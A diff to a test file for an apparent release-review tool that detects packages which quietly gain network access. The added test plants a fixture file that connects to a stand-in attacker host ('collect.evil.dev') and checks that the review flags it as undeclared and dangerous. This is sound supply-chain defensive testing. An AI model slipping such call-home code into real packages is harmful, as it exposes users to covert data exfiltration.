@@ -105,8 +105,25 @@ test("a release states what follows the published one, and its review shows ever
   );
 });
 
+test("attack: a release that starts to talk and does not say so is named as unusual, with the line", async () => {
+  const directory = await plant("quiet", {
+    "bin/hello": "two",
+    "lib/start.js": `import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n`,
+  });
+  const { digest } = await propose(await repository.build(directory, "1.1.1"));
+  const { drift } = await review(digest);
+  const seen = drift.flatMap(({ sightings }) => sightings);
+  assert.deepEqual(
+    drift.map(({ platform }) => platform),
+    ["linux-x64"],
+  );
+  const [undeclared] = seen.filter(({ signal }) => signal === "privilege-undeclared");
+  assert.deepEqual(undeclared?.evidence, [{ text: "network: network", path: "lib/start.js", line: 1 }]);
+  assert.ok(seen.some(({ signal }) => signal === "capability-dangerous"));
+});
+
 test("attack: govern shows another statement than the one of the digest, and there is no review of it", async () => {
-  const { digest, statement } = await propose(await repository.build(join(scratch, "2"), "1.1.1"));
+  const { digest, statement } = await propose(await repository.build(join(scratch, "2"), "1.1.8"));
   kept = { ...kept, body: { ...statement, privileges: ["everything"] } };
   assert.equal(await refusedWith(digest), "digest-mismatch");
 });
